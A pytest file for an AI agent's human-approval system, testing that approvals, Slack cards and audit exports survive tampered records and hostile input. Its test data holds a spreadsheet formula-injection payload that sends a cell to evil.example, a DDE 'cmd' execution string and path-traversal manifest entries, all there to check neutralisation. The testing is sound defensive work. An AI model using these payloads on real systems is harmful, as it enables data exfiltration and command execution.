"""Governance under hostile input: edited values, reasons and tampered records that must
neither break a card, nor an export, nor reach a place they were never meant to."""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import threading
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest
from engine_support import THREAD, message, replies, restarts
from governance_support import approve, park, posts, request, sweep
from test_cards_content import NOW, make

from agent_core.arg_edit import GENERAL, EditForm, check_arguments, edit_fields, parse_edit
from agent_core.audit import audit_records, since_time
from agent_core.surface import CardView, RecordingSurface
from agent_core.tools import Tool, ToolContext, tool
from agent_core.tools.json_schema import SchemaChecker
from approvals import (
    AlreadyDecided,
    ApprovalRequest,
    Decided,
    Decision,
    Policy,
    PolicyRule,
    Refused,
    Reminded,
    StaticGroups,
    Timers,
    changes,
    record_edit,
    sweep_expired,
)
from approvals.records import Edit
from bot.cards import card_blocks
from bot.cli import main
from bot.cli_audit import CSV_COLUMNS
from bot.edit_modal import edit_modal
from localslack.blockkit import validate_blocks, validate_modal
from sessions import FixedClock, Home, Index, ThreadKey, utc_iso


def test_an_edit_of_values_full_of_markup_still_fits_the_cards_section() -> None:
    """Escaping turns ``&`` into ``&amp;`` (and ``<`` into ``&lt;``): the edit's difference,
    clipped before escaping, grew past Slack's 3000 characters, and Slack refused the card
    update that showed the edit."""
    capsule = make({"service": "api"})
    edit = Edit(
        approval_id=capsule.id, n=1, user="U0BOB", at="2026-11-02T08:30:00Z",
        base_sha256=capsule.args_sha256, tool_version="v1",
        arguments={"service": "a&b<c>" * 400}, args_sha256="0" * 64, changed=("service",),
        reason="<!channel> & " * 100,
    )  # fmt: skip
    blocks = card_blocks(CardView(capsule, edits=(edit,), now=NOW))
    assert validate_blocks(blocks) == []
    # However many people edited it in turn.
    editors = tuple(
        edit.model_copy(update={"n": n, "user": f"U0EDITOR{n:03d}"}) for n in range(1, 80)
    )
    assert validate_blocks(card_blocks(CardView(capsule, edits=(*editors, edit), now=NOW))) == []
    (shown,) = [b["text"]["text"] for b in blocks if b["block_id"].startswith("edit-")]
    assert "service: " in shown and "a&amp;b&lt;c&gt;" in shown
    assert "<!channel>" not in shown and "&lt;!channel&gt;" in shown
    # Never cut inside an entity: every "&" starts a whole one.
    assert all(part.startswith(("amp;", "lt;", "gt;")) for part in shown.split("&")[1:])


class _Advertised(Tool):
    """A tool with a schema as a server advertises it (an MCP tool), checked as one is."""

    def __init__(self, schema: dict[str, Any]) -> None:
        super().__init__(name="remote_tool", description="A tool a server describes.")
        self._schema = schema
        self._checker = SchemaChecker(self.name, schema)

    @property
    def schema(self) -> dict[str, Any]:
        return self._schema

    def validate(self, arguments: dict[str, Any]) -> dict[str, Any]:
        return self._checker.validate(arguments)

    def gated(self, arguments: dict[str, Any]) -> bool:
        return True

    async def call(self, arguments: dict[str, Any], context: ToolContext) -> str:
        return "ok"


class _Fetched(http.server.BaseHTTPRequestHandler):
    asked: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        body = b'{"type": "string"}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


def test_checking_an_edit_never_fetches_a_schema_reference_and_names_what_is_missing() -> None:
    """A server's schema may point an optional parameter at a ``$ref`` elsewhere. The call
    as asked never used it; an edit that fills it in was checked by a validator that
    fetched the address over HTTP (the tools' own checker refuses to), and one that points
    nowhere raised out of the check: the modal failed instead of showing the problem."""
    server = http.server.HTTPServer(("127.0.0.1", 0), _Fetched)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        address = f"http://127.0.0.1:{server.server_address[1]}/schema.json"
        for ref in (address, "#/$defs/missing"):
            tool = _Advertised(
                {
                    "type": "object",
                    "properties": {"service": {"type": "string"}, "extra": {"$ref": ref}},
                    "required": ["service"],
                }
            )
            assert tool.validate({"service": "api"}) == {"service": "api"}  # as asked
            fields = edit_fields(tool.schema, {"service": "api"})
            arguments, problems = parse_edit(fields, {"service": "api", "extra": '"x"'})
            assert problems == {} and arguments == {"service": "api", "extra": "x"}
            valid, problems = check_arguments(tool, arguments)
            assert valid == {} and list(problems) == [GENERAL], problems
            assert ref.lstrip("#") in problems[GENERAL] and "not in it" in problems[GENERAL]
        assert _Fetched.asked == []
    finally:
        server.shutdown()
        server.server_close()


async def test_a_decision_naming_an_edit_that_does_not_exist_is_flagged_not_a_crash(
    home: Home, clock: FixedClock
) -> None:
    """Someone changes the decision file's edit number: the export crashed (IndexError)
    on it, leaving the auditor with a traceback and no export of any approval."""
    capsule = park(home, clock)
    other = park(home, clock)
    assert isinstance(await approve(home, capsule, "U0BOB", clock, reason="ok"), Decided)
    path = Path(home.session_dir(capsule.session_id)) / "approvals" / f"{capsule.id}.decision.json"
    data = json.loads(path.read_text())
    data["edit"] = 3
    path.write_text(json.dumps(data))
    records = {r.approval_id: r for r in audit_records(home)}
    assert set(records) == {capsule.id, other.id}
    tampered = records[capsule.id]
    assert tampered.status == "approved" and tampered.flagged
    assert any("edit 3" in p for p in tampered.problems), tampered.problems
    assert tampered.reasons == ("U0BOB: ok",)


async def test_an_approved_call_whose_decision_names_a_missing_edit_never_runs(
    make_engine: Any, home: Home, surface: RecordingSurface
) -> None:
    """The same tampering before the call starts: the thread's worker raised on it
    (IndexError) and retried for ever, the outcome never told; had it got past that, the
    hash still matched and the call would have run under a decision for another edit."""
    engine = await make_engine()
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    request = ApprovalRequest.open(home, waiting.capsule.id, clock=engine.clock)
    made = Decision(
        approval_id=request.id, verdict="approved", deciders=("U0BOB",),
        at=utc_iso(engine.clock.now()), args_sha256=request.capsule.args_sha256,
        original_sha256=request.capsule.args_sha256, edit=2,
    )  # fmt: skip
    assert request.write_decision(made) is None
    engine.wake(THREAD)
    await engine.idle()
    assert restarts(home) == 0 and request.claimed() is None
    assert request.told() is not None
    assert any("not run" in text and "edit 2" in text for text in replies(surface))


async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    home: Home,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Auditors open the CSV in a spreadsheet, where a cell that starts with ``=``, ``+``,
    ``-`` or ``@`` is a formula. A tampered record put its text at the start of a cell
    (the export of a tampered home is exactly what they look at), and ran in their sheet."""
    rule = PolicyRule(quorum=2, require_reason=True)
    capsule = park(home, clock, rule)
    reason = '=HYPERLINK("http://evil.example/?"&A1, "ok"),\n+1, -2 @3'
    await approve(home, capsule, "U0BOB", clock, reason=reason)
    await approve(home, capsule, "U0CAROL", clock, reason="fine")
    approvals = Path(home.session_dir(capsule.session_id)) / "approvals"
    vote = approvals / f"{capsule.id}.votes" / "U0CAROL.json"
    data = json.loads(vote.read_text())
    data["user"] = '=HYPERLINK("http://evil.example/","vote")'
    vote.write_text(json.dumps(data))
    decision = approvals / f"{capsule.id}.decision.json"
    data = json.loads(decision.read_text())
    data["deciders"] = ["+cmd|' /C calc'!A0", "U0BOB", "@SUM(1)", "-1"]
    decision.write_text(json.dumps(data))
    monkeypatch.setenv("SIGNOFF_HOME", str(home.root))
    for name in ("SIGNOFF_POLICY", "SIGNOFF_CONFIG", "SIGNOFF_MODEL"):
        monkeypatch.delenv(name, raising=False)
    capsys.readouterr()
    # Not flagged: a decision is sealed only once told, and votes not at all (see
    # docs/design-notes.md, Audit); what matters here is what the cells start with.
    main(["audit", "--format", "csv"])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == CSV_COLUMNS and len(rows) == 2
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
    # Shown as written, behind a quote a spreadsheet does not display.
    assert row["votes"].startswith("'=HYPERLINK(")
    assert row["deciders"] == "'+cmd|' /C calc'!A0; U0BOB; @SUM(1); -1"
    # Commas and newlines in a reason stay inside their cell.
    assert f"U0BOB: {reason.strip()}" in row["reasons"]


class _SlowGroups:
    """Group membership that takes a while, as Slack's ``usergroups.users.list`` does;
    ``meanwhile`` runs while the first look-up waits (another click the bot handles)."""

    def __init__(self, members: frozenset[str], meanwhile: Callable[[], Awaitable[object]]):
        self._members = members
        self._meanwhile: Callable[[], Awaitable[object]] | None = meanwhile

    async def members(self, group_id: str) -> frozenset[str]:
        meanwhile, self._meanwhile = self._meanwhile, None
        if meanwhile is not None:
            await meanwhile()
        return self._members


async def test_an_edit_whose_approval_was_decided_while_it_was_checked_is_not_written(
    home: Home, clock: FixedClock
) -> None:
    """Carol submits an edit; while her group membership is looked up, Bob's approval of
    the call as asked decides it. Her edit was written all the same, after the decision:
    the approved call no longer matched the arguments on record, and Bob's approval was
    refused when it was to start, so nothing ran."""
    rule = PolicyRule(approver_groups=("S0OPS",))
    policy = Policy(default=rule)
    capsule = park(home, clock, rule)
    ops = frozenset({"U0BOB", "U0CAROL"})

    async def bob_approves() -> object:
        return await approve(
            home, capsule, "U0BOB", clock, policy=policy, groups=StaticGroups({"S0OPS": ops})
        )

    result = await record_edit(
        ApprovalRequest.open(home, capsule.id, clock=clock),
        user="U0CAROL",
        arguments={**capsule.arguments, "replicas": 8},
        tool_version="v1",
        base_sha256=capsule.args_sha256,
        policy=policy,
        groups=_SlowGroups(ops, bob_approves),
        clock=clock,
    )
    assert isinstance(result, AlreadyDecided)
    assert result.decision.deciders == ("U0BOB",)
    request = ApprovalRequest.open(home, capsule.id, clock=clock)
    assert request.edits() == []
    assert request.current().args_sha256 == result.decision.args_sha256 == capsule.args_sha256


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("400d", "2025-09-28T09:00:00.000Z"),  # more than a year back: an audit asks that
        (" 36h ", "2026-10-31T21:00:00.000Z"),
        ("90s", "2026-11-02T08:58:30.000Z"),
        ("2026-11-01", "2026-11-01T00:00:00.000Z"),
        ("99999999d", ""),  # before any time there is: everything
    ],
)
def test_since_takes_any_span_back_or_a_day(text: str, expected: str) -> None:
    """``--since 400d`` was refused with the policy's own limit ("a request may wait at
    most 365d"), which says nothing about an export."""
    assert since_time(text, NOW) == expected


@pytest.mark.parametrize("text", ["last week", "7", "-3d", "2026-13-45", "2026-11-1", "7 days"])
def test_since_refuses_what_is_neither_a_span_nor_a_day_and_says_both_forms(text: str) -> None:
    with pytest.raises(ValueError) as caught:
        since_time(text, NOW)
    assert "7d" in str(caught.value) and "2026-11-01" in str(caught.value)


ESCALATE_TO_ASKER = PolicyRule(
    approver_users=("U0BOB",),
    escalate_after_seconds=3600,
    escalate_users=("U0ALICE", "U0DAVE"),
    expires_after_seconds=24 * 3600,
)


async def test_escalation_never_tells_the_requester_they_may_now_decide(
    home: Home, clock: FixedClock
) -> None:
    """``escalate_to`` names the person who asked (an on-call rota does): the thread said
    they "may now approve or deny it", the card that they "may decide it too" (and the
    index listed them among its approvers), while every click of theirs was refused."""
    capsule = park(home, clock, ESCALATE_TO_ASKER)
    clock.advance(timedelta(hours=1))
    sweep(home, clock)
    req = request(home, capsule, clock)
    assert req.escalated_approvers() == ("U0DAVE",)
    assert "U0ALICE" not in req.row().approvers
    text = posts(home)[f"escalate-{capsule.id}"]
    assert "escalated to <@U0DAVE>, who may now approve" in text
    view = CardView(capsule, escalation=req.escalation(), now=NOW)
    (block,) = [b for b in card_blocks(view) if b["block_id"].startswith("esc-")]
    assert "<@U0ALICE>" not in json.dumps(block)

    # Escalated to the requester alone: nobody is added, nothing says otherwise, and the
    # sweep is done with it (no marker left to take every pass).
    alone = park(home, clock, ESCALATE_TO_ASKER.model_copy(update={"escalate_users": ("U0ALICE",)}))
    clock.advance(timedelta(hours=1))
    sweep(home, clock)
    req = request(home, alone, clock)
    assert req.escalation() is not None and req.escalated_approvers() == ()
    assert f"escalate-{alone.id}" not in posts(home)
    view = CardView(alone, escalation=req.escalation(), now=NOW)
    assert not [b for b in card_blocks(view) if b["block_id"].startswith("esc-")]
    assert req.next_due() is None and Timers(home).armed(alone.id) == []
    refused = await approve(home, alone, "U0ALICE", clock)
    assert isinstance(refused, Refused)


async def test_an_approval_whose_request_was_denied_while_it_was_checked_is_not_counted(
    home: Home, clock: FixedClock
) -> None:
    """Bob approves (one of two needed); while his group membership is looked up, Dave
    denies. Bob's vote was written after the denial and he was told "your approval is
    counted: 1 of 2" of a request that was already denied."""
    rule = PolicyRule(approver_groups=("S0OPS",), quorum=2)
    policy = Policy(default=rule)
    capsule = park(home, clock, rule)
    ops = frozenset({"U0BOB", "U0DAVE"})

    async def dave_denies() -> object:
        groups = StaticGroups({"S0OPS": ops})
        return await approve(
            home, capsule, "U0DAVE", clock, approve=False, policy=policy, groups=groups
        )

    result = await approve(
        home, capsule, "U0BOB", clock, policy=policy, groups=_SlowGroups(ops, dave_denies)
    )
    assert isinstance(result, AlreadyDecided), result
    assert result.decision.verdict == "denied" and result.decision.deciders == ("U0DAVE",)
    assert request(home, capsule, clock).votes() == []


def _garbage(manifest: Path) -> None:
    manifest.write_text("hello world\n")  # no "  " between a digest and a path


def _binary(manifest: Path) -> None:
    manifest.write_bytes(b"\xff\xfe\x00 not text")


def _a_directory(manifest: Path) -> None:
    manifest.unlink()
    manifest.mkdir()


def _outside(manifest: Path) -> None:
    # Paths that are not the session's: the device that never ends, and one above it.
    extra = f"{'0' * 64}  /dev/zero\n{'0' * 64}  ../../../../../../../dev/zero\n"
    manifest.write_text(manifest.read_text() + extra)


def _fifo(manifest: Path) -> None:
    listed = manifest.parent / "SESSION.md"
    listed.unlink()
    os.mkfifo(listed)  # opened for reading, it waits for a writer that never comes


@pytest.mark.parametrize("tamper", [_garbage, _binary, _a_directory, _outside, _fifo])
async def test_a_tampered_seal_is_flagged_never_a_crash_or_a_hang(
    home: Home, clock: FixedClock, tamper: Callable[[Path], None]
) -> None:
    """The seal is what the export (and execution) checks a session against. A manifest
    that is not text, lists a line without a path, or is a directory crashed the export
    (UnicodeDecodeError, IsADirectoryError); one listing /dev/zero, a path above the
    session or a FIFO had it read for ever."""
    capsule = park(home, clock)
    await approve(home, capsule, "U0BOB", clock)
    tamper(Path(home.session_dir(capsule.session_id)) / "MANIFEST.sha256")
    (record,) = audit_records(home)
    assert record.seal == "tampered" and record.flagged and record.problems, record


async def test_a_record_that_cannot_be_read_is_flagged_not_a_crash(
    home: Home, clock: FixedClock
) -> None:
    """A vote (or any record) whose name is a directory, or that the user running the
    export may not read: ``signoff audit`` stopped with the OSError, exporting nothing;
    it is that approval's problem, and the others are exported."""
    rule = PolicyRule(quorum=2)
    capsule, other = park(home, clock, rule), park(home, clock, rule)
    await approve(home, capsule, "U0BOB", clock)
    votes = Path(home.session_dir(capsule.session_id)) / "approvals" / f"{capsule.id}.votes"
    (votes / "U0MALLORY.json").mkdir()
    records = {r.approval_id: r for r in audit_records(home)}
    assert set(records) == {capsule.id, other.id}
    assert records[capsule.id].flagged and not records[other.id].problems
    assert any("U0MALLORY.json" in p for p in records[capsule.id].problems)


REMIND = PolicyRule(approver_users=("U0BOB",), remind_after_seconds=3600, quorum=2)


async def test_one_request_the_disk_will_not_read_does_not_stop_everyone_elses_reminders(
    home: Home, clock: FixedClock
) -> None:
    """Timers are taken oldest first. One request whose records raised an OSError (a
    session restored without read permission, a directory by a vote's name) stopped
    the sweep there, every pass: no reminder or escalation of any later request went out,
    and the sweep's other work after it (waking threads, retrying deferred calls) waited
    too. It is now kept for the next pass, and the others are done."""
    stuck = park(home, clock, REMIND)
    clock.advance(timedelta(minutes=1))
    fine = park(home, clock, REMIND)
    votes = Path(home.session_dir(stuck.session_id)) / "approvals" / f"{stuck.id}.votes"
    (votes / "U0MALLORY.json").mkdir(parents=True)
    clock.advance(timedelta(hours=1))
    steps = sweep(home, clock)
    assert [s.request.id for s in steps if isinstance(s, Reminded)] == [fine.id]
    assert f"remind-1-{fine.id}" in posts(home)
    assert Timers(home).armed(stuck.id) != []  # looked at again next pass


async def test_a_reason_changed_after_the_outcome_was_told_is_flagged(
    make_engine: Any, home: Home, surface: RecordingSurface
) -> None:
    """The session that told the outcome sealed what it applied: the verdict, deciders and
    hash were checked against it, the reasons (the decision's, a vote's, an edit's) and
    the edit and the second clock were not: a reason rewritten afterwards was exported as
    if given, unflagged."""
    two = Policy(default=PolicyRule(approver_users=("U0BOB", "U0CAROL"), quorum=2))
    engine = await make_engine(policy=two)
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    await engine.decide(waiting.capsule.id, user="U0BOB", approve=True, reason="api is wedged")
    await engine.decide(waiting.capsule.id, user="U0CAROL", approve=True, reason="agreed")
    await engine.idle()
    await engine.close()
    (clean,) = audit_records(home)
    assert clean.problems == () and clean.reasons == ("U0BOB: api is wedged", "U0CAROL: agreed")

    approvals = Path(home.session_dir(waiting.capsule.session_id)) / "approvals"
    vote = approvals / f"{waiting.capsule.id}.votes" / "U0BOB.json"
    data = json.loads(vote.read_text())
    data["reason"] = "the CTO said so"
    vote.write_text(json.dumps(data))
    (flagged,) = audit_records(home)
    assert flagged.reasons[0] == "U0BOB: the CTO said so"
    assert any("reasons" in p and "differs from what" in p for p in flagged.problems), flagged


@tool(requires_human_approval=True)
def drain(node: str, note: str | None, force: bool | None) -> str:
    """Drain a node.

    Args:
        node: the node
        note: why (none: no note)
        force: whether to evict everything
    """
    return "ok"


def test_a_required_parameter_that_may_be_null_can_be_left_null() -> None:
    """``note: str | None`` with no default is required and nullable. Its field was
    required in the modal (Slack will not submit it empty) and on submit, so no edit of
    ``node`` could keep ``note`` null: every edit had to invent a value for it."""
    current = drain.validate({"node": "n1", "note": None, "force": None})
    fields = edit_fields(drain.schema, current)
    arguments, problems = parse_edit(fields, {"node": "n2", "note": "", "force": None})
    assert problems == {}
    valid, problems = check_arguments(drain, arguments)
    assert problems == {} and valid == {"node": "n2", "note": None, "force": None}
    form = EditForm("appr_0123456789abcdef", "drain", "0" * 64, fields, require_reason=False)
    modal = edit_modal(form)
    assert modal is not None and validate_modal(modal) == []
    inputs = {b["block_id"]: b for b in modal["blocks"] if b["type"] == "input"}
    assert inputs["arg:node"]["optional"] is False  # a plain required one stays required
    assert inputs["arg:note"]["optional"] is True and inputs["arg:force"]["optional"] is True
    assert "empty" in inputs["arg:note"]["hint"]["text"]
    # Still given when typed, and a plain required one still refuses to be empty.
    arguments, _ = parse_edit(fields, {"node": "n2", "note": "kernel", "force": "true"})
    assert arguments == {"node": "n2", "note": "kernel", "force": True}
    assert parse_edit(fields, {"node": " ", "note": "", "force": None})[1] == {"node": "required"}


async def test_a_reminder_with_nobody_left_to_ask_does_not_invite_anyone(
    home: Home, clock: FixedClock
) -> None:
    """Two approvals, from Bob or (after escalation) Dave: once Bob approved, the
    reminder had nobody to ping and said "Anyone but the requester may decide it on the
    card above" — everyone who then clicked was refused."""
    rule = PolicyRule(
        approver_users=("U0BOB",), quorum=2, remind_after_seconds=3600,
        escalate_after_seconds=8 * 3600, escalate_users=("U0DAVE",),
    )  # fmt: skip
    capsule = park(home, clock, rule)
    await approve(home, capsule, "U0BOB", clock)
    clock.advance(timedelta(hours=1))
    sweep(home, clock)
    text = posts(home)[f"remind-1-{capsule.id}"]
    assert "Anyone" not in text and "Nobody else may approve it now" in text
    # Open to anyone, it still says so.
    anyone = park(home, clock, PolicyRule(remind_after_seconds=3600))
    clock.advance(timedelta(hours=1))
    sweep(home, clock)
    assert "Anyone but the requester may decide it" in posts(home)[f"remind-1-{anyone.id}"]


def test_an_edit_from_1_to_true_or_to_1_0_is_a_difference_people_see() -> None:
    """Python holds ``True == 1 == 1.0``: an edit that turned a count into a flag (a
    parameter taking either) hashed differently, ran differently, and its card said
    "(no difference from the request)", the model "changed …: ." with nothing listed."""
    before = {"limit": 1, "ratio": 2, "flags": {"force": 0}}
    after = {"limit": True, "ratio": 2.0, "flags": {"force": False}}
    assert [c.name for c in changes(before, after)] == ["flags", "limit", "ratio"]
    assert changes(before, dict(before)) == []
    assert changes({"a": {"x": 1, "y": 2}}, {"a": {"y": 2, "x": 1}}) == []  # key order


async def test_one_unreadable_record_does_not_stop_every_other_expiry(
    home: Home, clock: FixedClock
) -> None:
    """The expiry sweep promised to skip an unreadable request, but only its opening was
    guarded: a corrupt vote (or decision) file raised out of the sweep on every pass, so
    no later request ever expired, and the engine's sweep stopped there too (no
    reminders, no wake-ups)."""
    rule = PolicyRule(quorum=2, expires_after_seconds=3600)
    broken, fine = park(home, clock, rule), park(home, clock, rule)
    await approve(home, broken, "U0BOB", clock)
    vote = Path(home.session_dir(broken.session_id)) / "approvals" / f"{broken.id}.votes"
    (vote / "U0BOB.json").write_text("{ not json")
    clock.advance(timedelta(hours=2))
    index = await Index.open(home.index_path)
    try:
        await index.put_approvals([request(home, c, clock).row() for c in (broken, fine)])
        swept = await sweep_expired(home, index, clock=clock, policy=Policy())
    finally:
        await index.close()
    assert [(r.capsule.id, r.decision.verdict) for r in swept] == [(fine.id, "expired")]


async def test_one_unreadable_deferral_does_not_stop_the_engines_sweep(
    make_engine: Any, home: Home
) -> None:
    """The engine's sweep retries approved calls whose tool was away; a deferral record
    it could not read raised out of the sweep on every pass, and what comes after it
    (waking delivery) never ran."""
    engine = await make_engine()
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    (home.root / "KILL").touch()  # approved, and held: decided but not told
    await engine.decide(waiting.capsule.id, user="U0BOB", approve=True)
    await engine.idle()
    approvals = Path(home.session_dir(waiting.capsule.session_id)) / "approvals"
    (approvals / f"{waiting.capsule.id}.deferred-1.json").write_text("{ not json")
    await engine.sweep()  # logged and skipped, not raised


async def test_one_unreadable_record_does_not_stop_start_up_recovery(
    make_engine: Any, home: Home
) -> None:
    """Recovery wakes the threads of approvals decided but not told; it guarded only the
    opening of each, so one whose records it could not read raised out of recovery, and
    signoff could not start."""
    engine = await make_engine()
    await engine.ingest(message("restart api", ts="1700000000.000100"))
    await engine.idle()
    (waiting,) = await engine.waiting()
    (home.root / "KILL").touch()  # approved, and held: decided but not told
    await engine.decide(waiting.capsule.id, user="U0BOB", approve=True)
    await engine.idle()
    approvals = Path(home.session_dir(waiting.capsule.session_id)) / "approvals"
    (approvals / f"{waiting.capsule.id}.told.json").write_text("{ not json")
    counts = await engine.recover()  # logged and skipped, not raised
    assert counts["untold"] == 0


async def test_one_unreadable_record_does_not_empty_everyones_pending_lists(
    make_engine: Any, home: Home
) -> None:
    """``/signoff pending``, ``signoff pending`` and each Home tab list requests read
    from their records; only opening each was guarded, so one corrupt vote file raised
    out of the list: nobody saw any request waiting for them."""
    two = Policy(default=PolicyRule(approver_users=("U0BOB", "U0CAROL"), quorum=2))
    engine = await make_engine(policy=two)
    for n in (1, 2):
        thread = ThreadKey(team="T0LOCAL", channel="C0OPS", thread_ts=f"170000000{n}.000100")
        await engine.ingest(message("restart api", ts=f"170000000{n}.000100", thread=thread))
    await engine.idle()
    broken, fine = [p.capsule for p in await engine.waiting()]
    await engine.decide(broken.id, user="U0CAROL", approve=True)
    votes = Path(home.session_dir(broken.session_id)) / "approvals" / f"{broken.id}.votes"
    (votes / "U0CAROL.json").write_text("{ not json")
    # The operator's list still names it (as asked, no votes read); a person's lists,
    # which offer its buttons, leave it out.
    waiting = {p.capsule.id: p for p in await engine.waiting()}
    assert set(waiting) == {broken.id, fine.id} and waiting[broken.id].voters == ()
    assert [p.capsule.id for p in await engine.pending_for("U0BOB")] == [fine.id]
    assert [r.capsule.id for r in await engine.requests_of("U0ALICE")] == [fine.id]
